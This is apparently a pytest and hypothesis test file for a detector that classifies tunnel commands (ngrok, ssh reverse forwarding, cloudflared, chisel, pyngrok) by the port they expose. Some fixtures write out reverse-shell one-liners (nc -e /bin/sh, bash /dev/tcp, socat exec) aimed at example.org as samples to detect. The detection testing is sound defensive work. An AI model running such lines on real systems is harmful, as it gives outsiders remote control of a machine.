"""What a tunnel opens, by the port that it is given in a command, a call or settings."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from colonnade.detection.extract import extract
from colonnade.detection.features.feature import Collector, Kind
from colonnade.detection.features.tunnels import (
    kind_of_port,
    read_given_shell,
    read_opened,
    read_settings,
    read_tunnel,
)


def opened(source: str) -> set[str]:
    return {one.value for one in extract(source) if one.kind is Kind.TUNNEL}


@pytest.mark.parametrize(
    ("source", "kinds"),
    [
        ("!./ngrok tcp 22", {"raw", "shell"}),
        ("!./ngrok tcp --region ap 3389", {"raw", "desktop"}),
        ("!ssh -R 2222:localhost:22 me@example.org", {"shell"}),
        ("!ssh -p 443 -R0:localhost:22 tcp@example.org", {"raw", "shell"}),
        ("!ssh -R {port}:localhost:5901 me@example.org", {"desktop"}),
        ("!cloudflared tunnel --url ssh://localhost:22", {"shell"}),
        ("!chisel client https://example.org R:2222:localhost:22", {"shell"}),
        ("!tailscale up --authkey=$key --ssh", {"shell"}),
        ("!jupyter lab & cloudflared tunnel --url http://localhost:8888", {"notebook"}),
        ("from pyngrok import ngrok\nport = 22\nngrok.connect(port, 'tcp')", {"raw", "shell"}),
        ("from pyngrok import ngrok\nngrok.connect(addr='25565', proto='tcp')", {"raw"}),
        ("%%writefile frpc.ini\n[x]\ntype = tcp\nlocal_port = 22", {"shell"}),
    ],
)
def test_the_port_behind_a_tunnel_says_what_it_is_for(source: str, kinds: set[str]):
    assert opened(source) == kinds


@pytest.mark.parametrize(
    "source",
    [
        "!hole local 25565 --to relay.example.org",
        "!qzx tcp 25565",
        "!./bore local 7000 --to relay.example.org",
    ],
)
def test_a_tunnel_without_a_known_name_is_known_by_its_shape(source: str):
    assert opened(source) == {"raw"}


@pytest.mark.parametrize(
    "source",
    [
        "!bore local 7860 --to relay.example.org",
        "!ngrok http 8501",
        "!ssh -R 80:localhost:7860 web.example.org",
        "from pyngrok import ngrok\nngrok.connect(5000)",
    ],
)
def test_a_web_demonstration_stays_one_in_any_tunnel(source: str):
    assert opened(source) == {"web"}


@pytest.mark.parametrize(
    "source",
    [
        "!git clone git@github.com:example/x.git",
        "!ssh -p 22 me@example.org ls",
        "!ssh -L 5432:db:5432 me@example.org",
        "!python train.py --port 29500",
        "!bash -c '</dev/tcp/db/5432'",
        "settings = {'type': 'tcp', 'keepalive': 22}",
    ],
)
def test_what_leads_out_of_the_runtime_opens_nothing(source: str):
    assert opened(source) == set()


@pytest.mark.parametrize(
    ("source", "kind"),
    [
        ("!nc -e /bin/sh example.org 9001", "to-shell"),
        ("!bash -c 'bash -i >& /dev/tcp/example.org/9001 0>&1'", "to-shell"),
        ('!socat exec:"bash -li",pty tcp:example.org:9001', "to-shell"),
        ("!./webterm --port 7681 --writable bash", "terminal"),
    ],
)
def test_a_shell_that_is_handed_to_others_is_seen(source: str, kind: str):
    assert kind in opened(source)


@given(st.integers())
def test_any_port_has_at_most_one_meaning(port: int):
    assert kind_of_port(port) in {"shell", "desktop", "notebook", "proxy", ""}


@given(st.text(max_size=30), st.lists(st.text(max_size=60), max_size=12), st.text(max_size=400))
def test_anything_can_be_read(program: str, words: list[str], text: str):
    collector = Collector()
    read_tunnel(collector, program, words, 1, 1)
    read_opened(collector, words, 1, 1)
    read_settings(collector, text, 1, 1)
    read_given_shell(collector, text, 0)
    assert {one.kind for one in collector.features()} <= {Kind.TUNNEL}
